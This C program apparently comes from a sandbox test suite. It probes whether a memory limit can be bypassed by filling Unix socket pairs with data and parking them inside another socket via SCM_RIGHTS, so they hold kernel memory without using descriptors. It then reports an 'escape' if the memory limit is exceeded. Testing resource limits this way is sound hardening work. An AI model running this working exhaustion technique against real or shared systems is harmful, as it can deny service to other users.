/* Full pairs of sockets, put into another socket, so that they take up no descriptor. */
#include "attack.h"

static long fill(int ends[2])
{
    static char block[1 << 18];
    long got = 0;
    for (int j = 0; j < 2; j++) {
        fcntl(ends[j], F_SETFL, O_NONBLOCK);
        for (ssize_t n; (n = write(ends[j], block, sizeof block)) > 0;)
            got += n >> 10;
    }
    return got;
}

static int park(int carrier, int ends[2])
{
    union { struct cmsghdr header; char space[CMSG_SPACE(2 * sizeof(int))]; } control = {0};
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS, c->cmsg_len = CMSG_LEN(2 * sizeof(int));
    memcpy(CMSG_DATA(c), ends, 2 * sizeof(int));
    return sendmsg(carrier, &message, MSG_DONTWAIT) < 0 ? -1 : 0;
}

int main(void)
{
    long got = 0;
    int carrier[2] = {-1, -1};
    for (int i = 0; i < 2000; i++) {
        int ends[2];
        if (i % 20 == 0 && socketpair(AF_UNIX, SOCK_SEQPACKET, 0, carrier) < 0)
            break;
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0)
            break;
        got += fill(ends);
        if (park(carrier[0], ends) == 0)
            close(ends[0]), close(ends[1]);
    }
    dprintf(1, "%ld KiB\n", got);
    if (got >> 10 > number("memory_mib"))
        escaped("the memory limit in parked sockets");
    return 0;
}
